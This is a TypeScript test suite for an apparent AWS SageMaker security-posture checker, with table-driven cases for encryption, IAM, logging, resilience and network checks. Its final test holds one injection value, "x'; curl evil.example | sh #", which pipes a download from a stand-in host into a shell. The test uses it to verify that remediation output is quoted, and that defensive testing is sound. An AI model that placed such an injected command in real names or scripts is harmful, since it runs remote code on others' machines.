import { describe, expect, it } from 'vitest';
import type { PostureVerdict } from '../../src/model/posture.ts';
import { checks } from '../../src/posture/catalogue.ts';
import type { RoleUsers } from '../../src/posture/facts.ts';
import { type Answers, account, refused } from '../inventory/answering-aws.ts';
import { judge, saidBy, subjectOf } from './judge.ts';

interface Row {
  readonly check: string;
  readonly kind: string;
  readonly answers: Answers;
  readonly verdict: PostureVerdict;
  /** In evidence or note. */
  readonly says: RegExp;
  readonly users?: RoleUsers;
}

const notebook = (members: object): Answers => ({ 'sagemaker:DescribeNotebookInstance': members });
const config = (members: object, more: Answers = {}): Answers => ({
  'sagemaker:DescribeEndpointConfig': members,
  ...more,
});
const model = (members: object): Answers => ({ 'sagemaker:DescribeModel': members });
const training = (members: object): Answers => ({ 'sagemaker:DescribeTrainingJob': members });
const processing = (members: object): Answers => ({ 'sagemaker:DescribeProcessingJob': members });
const domain = (members: object): Answers => ({ 'sagemaker:DescribeDomain': members });
const trails = (members: object, more: Answers = {}): Answers => ({
  'cloudtrail:DescribeTrails': { trailList: [{ Name: 'main', TrailARN: 'arn:trail', ...members }] },
  ...more,
});
const variant = (members: object): object => ({
  VariantName: 'a',
  InitialInstanceCount: 2,
  InstanceType: 'ml.m5.large',
  ...members,
});
const document = (...Statement: readonly object[]): string =>
  encodeURIComponent(JSON.stringify({ Version: '2012-10-17', Statement }));
const allow = (Action: unknown, Resource: unknown = '*', more: object = {}): object => ({
  Effect: 'Allow',
  Action,
  Resource,
  ...more,
});
/** A role with one inline policy. */
const role = (statements: readonly object[], members: object = {}): Answers => ({
  'iam:GetRole': {
    Role: {
      AssumeRolePolicyDocument: document({
        Effect: 'Allow',
        Principal: { Service: 'sagemaker.amazonaws.com' },
        Action: 'sts:AssumeRole',
      }),
      ...members,
    },
  },
  'iam:ListRolePolicies': { PolicyNames: ['p'] },
  'iam:GetRolePolicy': { PolicyDocument: document(...statements) },
});
/** A user with one managed policy, in a group with an inline one. */
const user = (managed: readonly object[], ofGroup: readonly object[] = []): Answers => ({
  'iam:GetUser': { User: {} },
  'iam:ListAttachedUserPolicies': { AttachedPolicies: [{ PolicyArn: 'arn:policy', PolicyName: 'm' }] },
  'iam:GetPolicy': { Policy: { DefaultVersionId: 'v3' } },
  'iam:GetPolicyVersion': { PolicyVersion: { Document: document(...managed) } },
  'iam:ListGroupsForUser': { Groups: [{ GroupName: 'g' }] },
  'iam:ListGroupPolicies': { PolicyNames: ['q'] },
  'iam:GetGroupPolicy': { PolicyDocument: document(...ofGroup) },
});
const trusting = (Principal: unknown, more: object = {}): Answers =>
  role([], { AssumeRolePolicyDocument: document({ Effect: 'Allow', Principal, Action: 'sts:AssumeRole', ...more }) });
const users = (...kinds: readonly string[]): RoleUsers => ({
  users: kinds.map((kind, index) => subjectOf(kind, `u${index}`)),
  unseen: [],
});
const selectors = (...types: readonly string[]): Answers =>
  trails(
    {},
    {
      'cloudtrail:GetEventSelectors': {
        AdvancedEventSelectors: types.map((type) => ({
          FieldSelectors: [
            { Field: 'eventCategory', Equals: ['Data'] },
            { Field: 'resources.type', Equals: [type] },
          ],
        })),
      },
    },
  );

const nb = 'sagemaker.notebook-instance';
const epc = 'sagemaker.endpoint-config';
const mod = 'sagemaker.model';
const tj = 'sagemaker.training-job';
const pj = 'sagemaker.processing-job';
const dom = 'sagemaker.domain';
const row = (
  check: string,
  kind: string,
  answers: Answers,
  verdict: PostureVerdict,
  says: RegExp,
  of?: RoleUsers,
): Row => ({
  check,
  kind,
  answers,
  verdict,
  says,
  ...(of ? { users: of } : {}),
});

const rows: readonly Row[] = [
  row('data-protection.notebook-volume-key', nb, notebook({}), 'weak', /KmsKeyId = not set/),
  row('data-protection.notebook-volume-key', nb, notebook({ KmsKeyId: 'k-1' }), 'sound', /KmsKeyId = k-1/),
  row('data-protection.endpoint-volume-key', epc, config({ ProductionVariants: [variant({})] }), 'weak', /not set/),
  row(
    'data-protection.endpoint-volume-key',
    epc,
    config({ KmsKeyId: 'k', ProductionVariants: [variant({})] }),
    'sound',
    /= k$/m,
  ),
  row(
    'data-protection.endpoint-volume-key',
    epc,
    config({ ProductionVariants: [variant({ InstanceType: 'ml.g5.xlarge' })] }),
    'not-applicable',
    /no key for ml\.g5/,
  ),
  row(
    'data-protection.endpoint-volume-key',
    epc,
    config({ ProductionVariants: [{ VariantName: 'a', ServerlessConfig: {} }] }),
    'not-applicable',
    /serverless/,
  ),
  row(
    'data-protection.job-volume-key',
    tj,
    training({ ResourceConfig: { InstanceType: 'ml.p3.2xlarge' } }),
    'weak',
    /not set/,
  ),
  row(
    'data-protection.job-volume-key',
    tj,
    training({ ResourceConfig: { InstanceType: 'ml.p4d.24xlarge' } }),
    'not-applicable',
    /p4d/,
  ),
  row(
    'data-protection.job-volume-key',
    pj,
    processing({ ProcessingResources: { ClusterConfig: { InstanceType: 'ml.m5.large', VolumeKmsKeyId: 'k' } } }),
    'sound',
    /ClusterConfig\.VolumeKmsKeyId = k/,
  ),
  row(
    'data-protection.job-volume-key',
    'sagemaker.transform-job',
    { 'sagemaker:DescribeTransformJob': { TransformResources: { InstanceType: 'ml.m5.large' } } },
    'weak',
    /TransformResources\.VolumeKmsKeyId/,
  ),
  row('data-protection.domain-file-system-key', dom, domain({}), 'weak', /not set/),
  row('data-protection.domain-file-system-key', dom, domain({ HomeEfsFileSystemKmsKeyId: 'k' }), 'sound', /= k$/m),
  row(
    'data-protection.inter-container-encryption',
    tj,
    training({ ResourceConfig: { InstanceCount: 2 } }),
    'weak',
    /InstanceCount = 2/,
  ),
  row(
    'data-protection.inter-container-encryption',
    tj,
    training({
      ResourceConfig: { InstanceGroups: [{ InstanceCount: 1 }, { InstanceCount: 2 }] },
      EnableInterContainerTrafficEncryption: true,
    }),
    'sound',
    /InstanceCount = 3/,
  ),
  row(
    'data-protection.inter-container-encryption',
    pj,
    processing({ ProcessingResources: { ClusterConfig: { InstanceCount: 1 } } }),
    'not-applicable',
    /nobody to talk to/,
  ),
  row(
    'data-protection.sinks-outside',
    epc,
    config(
      { DataCaptureConfig: { EnableCapture: true, DestinationS3Uri: 's3://theirs/x' } },
      { 's3:ListBuckets': { Buckets: [{ Name: 'ours' }] } },
    ),
    'weak',
    /theirs is not among the 1 buckets/,
  ),
  row(
    'data-protection.sinks-outside',
    epc,
    config(
      { AsyncInferenceConfig: { OutputConfig: { S3OutputPath: 's3://ours/x' } } },
      { 's3:ListBuckets': { Buckets: [{ Name: 'ours' }] } },
    ),
    'sound',
    /s3:\/\/ours\/x/,
  ),
  row(
    'data-protection.sinks-outside',
    epc,
    config({ DataCaptureConfig: { EnableCapture: false, DestinationS3Uri: 's3://theirs/x' } }),
    'sound',
    /copies nothing out/,
  ),
  row(
    'data-protection.sinks-outside',
    epc,
    config(
      { DataCaptureConfig: { DestinationS3Uri: 's3://x/y' } },
      { 's3:ListBuckets': { Buckets: [], ContinuationToken: 't' } },
    ),
    'unknown',
    /whole list/,
  ),
  row(
    'data-protection.sinks-outside',
    epc,
    config({ DataCaptureConfig: { DestinationS3Uri: 's3://x/y' } }, { 's3:ListBuckets': refused('s3:ListBuckets') }),
    'unknown',
    /s3:\/\/x\/y/,
  ),

  row(
    'identity.wildcards',
    'iam.role',
    role([allow('s3:*', 'arn:aws:s3:::*')]),
    'weak',
    /inline policy p = Allow s3:\* on arn:aws:s3:::\*/,
  ),
  row(
    'identity.wildcards',
    'iam.role',
    role([{ Effect: 'Allow', NotAction: 'iam:*', Resource: '*' }]),
    'weak',
    /all but iam:\*/,
  ),
  row('identity.wildcards', 'iam.role', role([allow('s3:*', 'arn:aws:s3:::one')]), 'sound', /no whole service/),
  row(
    'identity.wildcards',
    'iam.role',
    role([allow('s3:*', '*', { Condition: { Bool: { 'aws:SecureTransport': 'true' } } })]),
    'sound',
    /no whole/,
  ),
  row(
    'identity.wildcards',
    'iam.user',
    user([allow('s3:Get*')], [allow('*')]),
    'weak',
    /inline policy q of group g = Allow \*/,
  ),
  row(
    'identity.wildcards',
    'iam.user',
    { ...user([allow('s3:Get*')]), 'iam:ListGroupsForUser': refused('iam:ListGroupsForUser') },
    'unknown',
    /needs iam:ListGroupsForUser/,
  ),
  row(
    'identity.wildcards',
    'iam.role',
    { ...role([]), 'iam:GetRolePolicy': { PolicyDocument: 'no json' } },
    'unknown',
    /no policy that can be read/,
  ),
  row(
    'identity.pass-role',
    'iam.role',
    role([allow('iam:Pass*', `arn:aws:iam::${account}:role/service-role/*`)]),
    'weak',
    /role\/service-role\/\*/,
  ),
  row(
    'identity.pass-role',
    'iam.role',
    role([
      allow('iam:PassRole', '*', { Condition: { StringEquals: { 'iam:PassedToService': 'sagemaker.amazonaws.com' } } }),
    ]),
    'weak',
    /to sagemaker\.amazonaws\.com only/,
  ),
  row(
    'identity.pass-role',
    'iam.role',
    role([allow('iam:PassRole', `arn:aws:iam::${account}:role/one`)]),
    'sound',
    /no pattern of roles/,
  ),
  row('identity.shared-role', 'iam.role', role([]), 'weak', /2 run as it/, users(nb, 'sagemaker.endpoint')),
  row('identity.shared-role', 'iam.role', role([]), 'sound', /nb u0/, users(nb)),
  row('identity.shared-role', 'iam.role', role([]), 'unknown', /not looked at: endpoints/, {
    users: [],
    unseen: ['endpoints: denied'],
  }),
  row(
    'identity.source-identity',
    dom,
    domain({ DomainSettings: { ExecutionRoleIdentityConfig: 'DISABLED' } }),
    'weak',
    /DISABLED/,
  ),
  row(
    'identity.source-identity',
    dom,
    domain({ DomainSettings: { ExecutionRoleIdentityConfig: 'USER_PROFILE_NAME' } }),
    'sound',
    /USER_PROFILE_NAME/,
  ),
  row(
    'identity.trust',
    'iam.role',
    trusting({ AWS: `arn:aws:iam::${account}:root` }),
    'weak',
    /everybody of this account/,
  ),
  row(
    'identity.trust',
    'iam.role',
    trusting({ AWS: 'arn:aws:iam::999999999999:user/x' }),
    'weak',
    /of another account/,
  ),
  row('identity.trust', 'iam.role', trusting('*'), 'weak', /everybody/),
  row(
    'identity.trust',
    'iam.role',
    trusting({ AWS: '999999999999' }, { Condition: { StringEquals: { 'sts:ExternalId': 'e' } } }),
    'sound',
    /999999999999/,
  ),
  row('identity.trust', 'iam.role', trusting({ Service: 'sagemaker.amazonaws.com' }), 'sound', /sagemaker/),
  row('identity.boundary', 'iam.role', role([allow('iam:PutRolePolicy')]), 'weak', /Allow iam:PutRolePolicy/),
  row(
    'identity.boundary',
    'iam.role',
    role([allow('iam:*')], { PermissionsBoundary: { PermissionsBoundaryArn: 'arn:b' } }),
    'sound',
    /arn:b/,
  ),
  row('identity.boundary', 'iam.role', role([allow('iam:Get*')]), 'sound', /nothing that changes IAM/),
  row('identity.presigned-limits', 'iam.role', role([allow('sagemaker:*')]), 'weak', /from any address/),
  row(
    'identity.presigned-limits',
    'iam.role',
    role([
      allow('sagemaker:CreatePresignedDomainUrl', '*', { Condition: { IpAddress: { 'aws:SourceIp': '10.0.0.0/8' } } }),
    ]),
    'sound',
    /bound/,
  ),
  row(
    'identity.presigned-limits',
    'iam.role',
    role([
      allow('sagemaker:*'),
      {
        Effect: 'Deny',
        Action: 'sagemaker:*',
        Resource: '*',
        Condition: { StringNotEquals: { 'aws:SourceVpce': 'vpce-1' } },
      },
    ]),
    'sound',
    /bound/,
  ),
  row('identity.presigned-limits', 'iam.role', role([allow('s3:Get*')]), 'not-applicable', /may not make/),
  row(
    'identity.shared-outside',
    's3.bucket',
    {
      's3:GetBucketPolicy': {
        Policy: decodeURIComponent(
          document(allow('s3:GetObject', 'arn:aws:s3:::x/*', { Principal: { AWS: 'arn:aws:iam::999999999999:root' } })),
        ),
      },
    },
    'weak',
    /Allow s3:GetObject to arn:aws:iam::999999999999:root/,
  ),
  row(
    'identity.shared-outside',
    's3.bucket',
    {
      's3:GetBucketPolicy': {
        Policy: decodeURIComponent(
          document(allow('s3:GetObject', 'arn:aws:s3:::x/*', { Principal: { AWS: account } })),
        ),
      },
    },
    'sound',
    /111122223333/,
  ),
  row(
    'identity.shared-outside',
    'sagemaker.model-package-group',
    { 'sagemaker:GetModelPackageGroupPolicy': refused('sagemaker:GetModelPackageGroupPolicy', 'not-found') },
    'sound',
    /no policy of its own/,
  ),

  row('logging.trail-on', 'account', { 'cloudtrail:DescribeTrails': { trailList: [] } }, 'weak', /no trail/),
  row(
    'logging.trail-on',
    'account',
    trails({}, { 'cloudtrail:GetTrailStatus': { IsLogging: false } }),
    'weak',
    /IsLogging = false \(main\)/,
  ),
  row(
    'logging.trail-on',
    'account',
    trails({}, { 'cloudtrail:GetTrailStatus': { IsLogging: true } }),
    'sound',
    /IsLogging = true/,
  ),
  row(
    'logging.trail-on',
    'account',
    trails({}, { 'cloudtrail:GetTrailStatus': refused('cloudtrail:GetTrailStatus') }),
    'unknown',
    /needs cloudtrail:GetTrailStatus/,
  ),
  row(
    'logging.trail-regions',
    'account',
    trails({ IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true }),
    'sound',
    /IsMultiRegionTrail = true/,
  ),
  row(
    'logging.trail-regions',
    'account',
    trails({ IsMultiRegionTrail: false, IncludeGlobalServiceEvents: true }),
    'weak',
    /IsMultiRegionTrail = false/,
  ),
  row(
    'logging.trail-validation',
    'account',
    trails({ LogFileValidationEnabled: false }),
    'weak',
    /LogFileValidationEnabled = false/,
  ),
  row('logging.trail-validation', 'account', trails({ LogFileValidationEnabled: true }), 'sound', /true/),
  row('logging.trail-log-group', 'account', trails({}), 'weak', /CloudWatchLogsLogGroupArn = not set/),
  row('logging.trail-log-group', 'account', trails({ CloudWatchLogsLogGroupArn: 'arn:lg' }), 'sound', /arn:lg/),
  row(
    'logging.sagemaker-data-events',
    'account',
    selectors('AWS::S3::Object'),
    'weak',
    /AWS::S3::Object, not AWS::SageMaker::Endpoint/,
  ),
  row(
    'logging.sagemaker-data-events',
    'account',
    selectors('AWS::SageMaker::Endpoint'),
    'sound',
    /AWS::SageMaker::Endpoint by main/,
  ),
  row(
    'logging.s3-data-events',
    'account',
    trails(
      {},
      {
        'cloudtrail:GetEventSelectors': {
          EventSelectors: [
            { ReadWriteType: 'All', DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3'] }] },
          ],
        },
      },
    ),
    'sound',
    /by main/,
  ),
  row(
    'logging.s3-data-events',
    'account',
    trails(
      {},
      {
        'cloudtrail:GetEventSelectors': {
          EventSelectors: [
            { ReadWriteType: 'WriteOnly', DataResources: [{ Type: 'AWS::S3::Object', Values: ['arn:aws:s3:::one/'] }] },
          ],
        },
      },
    ),
    'weak',
    /only arn:aws:s3:::one\/, WriteOnly only/,
  ),
  row(
    'logging.log-retention',
    'account',
    {
      ...trails({}),
      'logs:DescribeLogGroups': { logGroups: [{ logGroupName: '/aws/sagemaker/studio', retentionInDays: 7 }] },
    },
    'weak',
    /retentionInDays = 7/,
  ),
  row(
    'logging.log-retention',
    'account',
    {
      ...trails({}),
      'logs:DescribeLogGroups': { logGroups: [{ logGroupName: 'a' }, { logGroupName: 'b', retentionInDays: 400 }] },
    },
    'sound',
    /the shortest keeps 400 days/,
  ),
  row(
    'logging.state-change-rule',
    'account',
    {
      'events:ListRules': { Rules: [{ Name: 'r', State: 'ENABLED', EventPattern: '{"source":["aws.sagemaker"]}' }] },
      'events:ListTargetsByRule': { Targets: [{ Arn: 'arn:lg' }] },
    },
    'sound',
    /arn:lg/,
  ),
  row(
    'logging.state-change-rule',
    'account',
    { 'events:ListRules': { Rules: [{ Name: 'r', State: 'DISABLED', EventPattern: '{"source":["aws.sagemaker"]}' }] } },
    'weak',
    /none of 1 hears/,
  ),
  row(
    'logging.state-change-rule',
    'account',
    {
      'events:ListRules': {
        Rules: [{ Name: 'r', State: 'ENABLED', EventPattern: '{"source":["aws.sagemaker"],"detail":{"a":["b"]}}' }],
      },
    },
    'weak',
    /only part is heard, by r/,
  ),

  row(
    'resilience.instance-count',
    epc,
    config({ ProductionVariants: [variant({}), variant({ VariantName: 'b', InitialInstanceCount: 1 })] }),
    'weak',
    /\[b\]\.InitialInstanceCount = 1/,
  ),
  row(
    'resilience.instance-count',
    epc,
    config({
      ProductionVariants: [variant({ InitialInstanceCount: 1, ManagedInstanceScaling: { MinInstanceCount: 2 } })],
    }),
    'sound',
    /MinInstanceCount = 2/,
  ),
  row(
    'resilience.instance-count',
    epc,
    config({ ProductionVariants: [{ ServerlessConfig: {} }] }),
    'not-applicable',
    /serverless/,
  ),
  row(
    'resilience.autoscaling',
    'sagemaker.endpoint',
    { 'sagemaker:DescribeEndpoint': { ProductionVariants: [{ VariantName: 'a' }] } },
    'weak',
    /none of 0/,
  ),
  row(
    'resilience.autoscaling',
    'sagemaker.endpoint',
    {
      'sagemaker:DescribeEndpoint': { ProductionVariants: [{ VariantName: 'a' }] },
      'application-autoscaling:DescribeScalableTargets': {
        ScalableTargets: [{ ResourceId: 'endpoint/x/variant/a', MinCapacity: 2, MaxCapacity: 8 }],
      },
    },
    'sound',
    /2 to 8/,
  ),
  row(
    'resilience.rollback-config',
    'sagemaker.endpoint',
    {
      'sagemaker:DescribeEndpoint': { EndpointConfigName: 'now' },
      'sagemaker:ListEndpointConfigs': {
        EndpointConfigs: [{ EndpointConfigName: 'now' }, { EndpointConfigName: 'before' }],
      },
      ...config({ ProductionVariants: [variant({ ModelName: 'm' })] }),
    },
    'sound',
    /before: the same models/,
  ),
  row(
    'resilience.rollback-config',
    'sagemaker.endpoint',
    {
      'sagemaker:DescribeEndpoint': { EndpointConfigName: 'now' },
      'sagemaker:ListEndpointConfigs': { EndpointConfigs: [{ EndpointConfigName: 'now' }] },
      ...config({}),
    },
    'weak',
    /none of 0 others/,
  ),
  row(
    'resilience.containment-cost',
    'iam.role',
    role([]),
    'weak',
    /people log in to = nb u0/,
    users(nb, 'sagemaker.endpoint'),
  ),
  row('resilience.containment-cost', 'iam.role', role([]), 'sound', /nb u0/, users(nb, 'sagemaker.app')),
  row('resilience.subnets', mod, model({ VpcConfig: { Subnets: ['s-1'] } }), 'weak', /s-1/),
  row('resilience.subnets', mod, model({ VpcConfig: { Subnets: ['s-1', 's-2'] } }), 'sound', /s-1, s-2/),
  row('resilience.subnets', mod, model({}), 'not-applicable', /no VPC/),
  row('resilience.subnets', dom, domain({ SubnetIds: ['s-1'] }), 'weak', /s-1/),

  row('infrastructure.notebook-direct-internet', nb, notebook({ DirectInternetAccess: 'Enabled' }), 'weak', /Enabled/),
  row(
    'infrastructure.notebook-direct-internet',
    nb,
    notebook({ DirectInternetAccess: 'Disabled' }),
    'sound',
    /Disabled/,
  ),
  row('infrastructure.notebook-direct-internet', nb, notebook({}), 'unknown', /does not say/),
  row('infrastructure.notebook-root-access', nb, notebook({ RootAccess: 'Enabled' }), 'weak', /Enabled/),
  row('infrastructure.notebook-root-access', nb, notebook({ RootAccess: 'Disabled' }), 'sound', /Disabled/),
  row(
    'infrastructure.notebook-imds',
    nb,
    notebook({ InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: '1' } }),
    'weak',
    /= 1$/m,
  ),
  row(
    'infrastructure.notebook-imds',
    nb,
    notebook({ InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: '2' } }),
    'sound',
    /= 2$/m,
  ),
  row('infrastructure.notebook-vpc', nb, notebook({}), 'weak', /SubnetId = not set/),
  row('infrastructure.notebook-vpc', nb, notebook({ SubnetId: 's-1' }), 'sound', /s-1/),
  row(
    'infrastructure.domain-vpc-only',
    dom,
    domain({ AppNetworkAccessType: 'PublicInternetOnly' }),
    'weak',
    /PublicInternetOnly/,
  ),
  row('infrastructure.domain-vpc-only', dom, domain({ AppNetworkAccessType: 'VpcOnly' }), 'sound', /VpcOnly/),
  row('infrastructure.network-isolation', mod, model({ EnableNetworkIsolation: false }), 'weak', /= false/),
  row('infrastructure.network-isolation', tj, training({ EnableNetworkIsolation: true }), 'sound', /= true/),
  row(
    'infrastructure.network-isolation',
    pj,
    processing({}),
    'weak',
    /NetworkConfig\.EnableNetworkIsolation = not set/,
  ),
  row('infrastructure.container-vpc', mod, model({}), 'weak', /not set/),
  row('infrastructure.container-vpc', mod, model({ VpcConfig: { Subnets: ['s-1'] } }), 'sound', /s-1/),
  row('infrastructure.container-vpc', mod, model({ EnableNetworkIsolation: true }), 'not-applicable', /isolated/),
  row('infrastructure.security-groups', nb, notebook({ SecurityGroups: ['sg-1'] }), 'unknown', /sg-1/),
  row(
    'infrastructure.remote-access',
    'sagemaker.space',
    { 'sagemaker:DescribeSpace': { SpaceSettings: { RemoteAccess: 'ENABLED' } } },
    'weak',
    /ENABLED/,
  ),
  row(
    'infrastructure.remote-access',
    tj,
    training({ RemoteDebugConfig: { EnableRemoteDebug: true } }),
    'weak',
    /EnableRemoteDebug = true/,
  ),
  row(
    'infrastructure.remote-access',
    epc,
    config({ ProductionVariants: [variant({ EnableSSMAccess: true })] }),
    'weak',
    /EnableSSMAccess = true/,
  ),
  row(
    'infrastructure.remote-access',
    'sagemaker.space',
    { 'sagemaker:DescribeSpace': { SpaceSettings: { RemoteAccess: 'DISABLED' } } },
    'sound',
    /DISABLED/,
  ),

  row(
    'compliance.sagemaker-notebook-no-direct-internet-access',
    nb,
    notebook({ DirectInternetAccess: 'Enabled' }),
    'weak',
    /evaluated by Firebreak/,
  ),
  row(
    'compliance.sagemaker-notebook-no-direct-internet-access',
    nb,
    notebook({ DirectInternetAccess: 'Disabled' }),
    'sound',
    /Disabled/,
  ),
  row('compliance.sagemaker-notebook-instance-inside-vpc', nb, notebook({}), 'weak', /SubnetId/),
  row('compliance.sagemaker-notebook-instance-inside-vpc', nb, notebook({ SubnetId: 's' }), 'sound', /= s$/m),
  row(
    'compliance.sagemaker-notebook-instance-root-access-check',
    nb,
    notebook({ RootAccess: 'Enabled' }),
    'weak',
    /Enabled/,
  ),
  row(
    'compliance.sagemaker-notebook-instance-root-access-check',
    nb,
    notebook({ RootAccess: 'Disabled' }),
    'sound',
    /Disabled/,
  ),
  row(
    'compliance.sagemaker-endpoint-config-prod-instance-count',
    epc,
    config({
      ProductionVariants: [variant({ InitialInstanceCount: 1, ManagedInstanceScaling: { MinInstanceCount: 2 } })],
    }),
    'weak',
    /InitialInstanceCount = 1/,
  ),
  row(
    'compliance.sagemaker-endpoint-config-prod-instance-count',
    epc,
    config({ ProductionVariants: [variant({})] }),
    'sound',
    /= 2$/m,
  ),
  row('compliance.sagemaker-model-isolation-enabled', mod, model({}), 'weak', /not set/),
  row('compliance.sagemaker-model-isolation-enabled', mod, model({ EnableNetworkIsolation: true }), 'sound', /true/),
  row(
    'compliance.sagemaker-notebook-instance-platform-version',
    nb,
    notebook({ PlatformIdentifier: 'notebook-al1-v1' }),
    'weak',
    /al1/,
  ),
  row(
    'compliance.sagemaker-notebook-instance-platform-version',
    nb,
    notebook({ PlatformIdentifier: 'notebook-al2-v3' }),
    'sound',
    /al2-v3/,
  ),
  row(
    'compliance.sagemaker-monitoring-schedule-isolation',
    'sagemaker.monitoring-schedule',
    { 'sagemaker:DescribeMonitoringSchedule': { MonitoringScheduleConfig: { MonitoringJobDefinition: {} } } },
    'weak',
    /not set/,
  ),
  row(
    'compliance.sagemaker-monitoring-schedule-isolation',
    'sagemaker.monitoring-schedule',
    { 'sagemaker:DescribeMonitoringSchedule': { MonitoringScheduleConfig: { MonitoringJobDefinitionName: 'd' } } },
    'unknown',
    /job definitions are not read/,
  ),
  row(
    'compliance.sagemaker-monitoring-schedule-isolation',
    'sagemaker.monitoring-schedule',
    {
      'sagemaker:DescribeMonitoringSchedule': {
        MonitoringScheduleConfig: { MonitoringJobDefinition: { NetworkConfig: { EnableNetworkIsolation: true } } },
      },
    },
    'sound',
    /true/,
  ),
  row(
    'compliance.sagemaker-monitoring-schedule-traffic-encryption',
    'sagemaker.monitoring-schedule',
    { 'sagemaker:DescribeMonitoringSchedule': { MonitoringScheduleConfig: { MonitoringJobDefinition: {} } } },
    'weak',
    /not set/,
  ),
  row(
    'compliance.sagemaker-monitoring-schedule-traffic-encryption',
    'sagemaker.monitoring-schedule',
    {
      'sagemaker:DescribeMonitoringSchedule': {
        MonitoringScheduleConfig: {
          MonitoringJobDefinition: { NetworkConfig: { EnableInterContainerTrafficEncryption: true } },
        },
      },
    },
    'sound',
    /true/,
  ),
  row('compliance.sagemaker-model-private-registry-required', mod, model({ PrimaryContainer: {} }), 'weak', /not set/),
  row(
    'compliance.sagemaker-model-private-registry-required',
    mod,
    model({ PrimaryContainer: { ImageConfig: { RepositoryAccessMode: 'Vpc' } } }),
    'sound',
    /Vpc/,
  ),
  row(
    'compliance.sagemaker-model-multicontainer-private-registry',
    mod,
    model({ Containers: [{ ImageConfig: { RepositoryAccessMode: 'Vpc' } }, {}] }),
    'weak',
    /Containers\[1\]/,
  ),
  row(
    'compliance.sagemaker-model-multicontainer-private-registry',
    mod,
    model({ Containers: [{ ImageConfig: { RepositoryAccessMode: 'Vpc' } }] }),
    'sound',
    /Vpc/,
  ),
  row('compliance.sagemaker-notebook-instance-storage-vol-kms-encrypted', nb, notebook({}), 'weak', /not set/),
  row(
    'compliance.sagemaker-notebook-instance-storage-vol-kms-encrypted',
    nb,
    notebook({ KmsKeyId: 'k' }),
    'sound',
    /= k$/m,
  ),
  row('compliance.sagemaker-notebook-instance-kms-key-configured', nb, notebook({}), 'weak', /not set/),
  row('compliance.sagemaker-notebook-instance-kms-key-configured', nb, notebook({ KmsKeyId: 'k' }), 'sound', /= k$/m),
  row('compliance.sagemaker-endpoint-configuration-kms-key-configured', epc, config({}), 'weak', /not set/),
  row(
    'compliance.sagemaker-endpoint-configuration-kms-key-configured',
    epc,
    config({ KmsKeyId: 'k' }),
    'sound',
    /= k$/m,
  ),
  row(
    'compliance.sagemaker-domain-in-vpc',
    dom,
    domain({ AppNetworkAccessType: 'PublicInternetOnly' }),
    'weak',
    /PublicInternetOnly/,
  ),
  row('compliance.sagemaker-domain-in-vpc', dom, domain({ AppNetworkAccessType: 'VpcOnly' }), 'sound', /VpcOnly/),
  row('compliance.sagemaker-model-in-vpc', mod, model({}), 'weak', /not set/),
  row('compliance.sagemaker-model-in-vpc', mod, model({ VpcConfig: { Subnets: ['s'] } }), 'sound', /= s$/m),
];

/** They say one thing only. */
const always: { readonly [check: string]: readonly PostureVerdict[] } = {
  'compliance.not-evaluated': ['unknown'],
  'infrastructure.security-groups': ['unknown'],
};

describe('each check', () => {
  it.each(rows.map((one, index) => [`${one.check} of a ${one.kind}: ${one.verdict} (${index})`, one] as const))(
    '%s',
    async (_title, { check, kind, answers, verdict, says, users: of }) => {
      const said = saidBy(await judge(subjectOf(kind), answers, of), check, kind);
      expect(said.map((one) => one.verdict)).toEqual([verdict]);
      const [one] = said;
      const text = [...one!.evidence.map(({ field, value }) => `${field} = ${value}`), one!.note].join('\n');
      expect(text).toMatch(says);
      expect(one!.remedy === undefined || verdict === 'weak').toBe(true);
      if (verdict !== 'unknown' && verdict !== 'not-applicable')
        for (const { operation } of one!.evidence) expect(operation).toMatch(/^[a-z0-9-]+:[A-Z]/);
    },
  );

  it('has a row that makes it weak, and one that does not', () => {
    const missing = checks.flatMap(({ id }) => {
      const verdicts = new Set(rows.filter((one) => one.check === id).map(({ verdict }) => verdict));
      return always[id] || (verdicts.has('weak') && verdicts.has('sound')) ? [] : [id];
    });
    expect(missing).toEqual([]);
  });

  it.each(checks.map((check) => [check.id, check] as const))(
    '%s never passes what may not be read',
    async (id, check) => {
      for (const kind of check.about) {
        const posture = await judge(subjectOf(kind), { '*': () => refused('service:Operation') });
        const said = saidBy(posture, id, kind);
        for (const { verdict, missing } of said) {
          expect([kind, verdict]).toEqual([kind, 'unknown']);
          if (!always[id]) expect(missing.length).toBeGreaterThan(0);
        }
        expect(said.length).toBeGreaterThan(0);
      }
    },
  );

  it.each([
    null,
    'text',
    7,
    [],
    { trailList: 'x', Role: 3, PolicyNames: [1], ProductionVariants: {}, Rules: [null], Buckets: 5 },
  ])('survives that AWS answers %j to everything', async (answer) => {
    for (const kind of new Set(checks.flatMap(({ about }) => about))) {
      const { state, results } = await judge(subjectOf(kind), { '*': () => answer ?? {} });
      expect(state).toBe('done');
      for (const { verdict } of results) expect(['weak', 'unknown', 'sound', 'not-applicable']).toContain(verdict);
    }
  });

  it('says what it means, cites AWS’s pages, and is asked about some kind', () => {
    for (const { id, why, title, about, references } of checks) {
      expect(id).toMatch(/^[a-z-]+\.[a-z0-9-]+$/);
      expect([id, why.length > 20, title.length > 5, about.length > 0]).toEqual([id, true, true, true]);
      for (const reference of references) expect(reference, id).toMatch(/^https:\/\/docs\.aws\.amazon\.com\/\S+$/);
      expect(references.length, id).toBeGreaterThan(0);
    }
  });
});

describe('remedies', () => {
  it('quote what an attacker may have named', async () => {
    const name = "x'; curl evil.example | sh #";
    for (const kind of new Set(checks.flatMap(({ about }) => about))) {
      if (kind === 'account') continue;
      const answers = rows.filter((one) => one.kind === kind && one.verdict === 'weak');
      for (const { answers: given, users: of } of answers) {
        const { results } = await judge(subjectOf(kind, name), given, of);
        for (const { remedy } of results)
          for (const line of remedy?.text.split('\n') ?? []) {
            // Within single quotes, within a string of Terraform, or behind a comment's mark.
            const bare = line
              .replaceAll(/'\\''/g, '')
              .replaceAll(/'[^']*'/g, '')
              .replaceAll(/"(?:[^"\\]|\\.)*"/g, '');
            if (!line.startsWith('#')) expect(bare).not.toContain('curl');
          }
      }
    }
  });
});
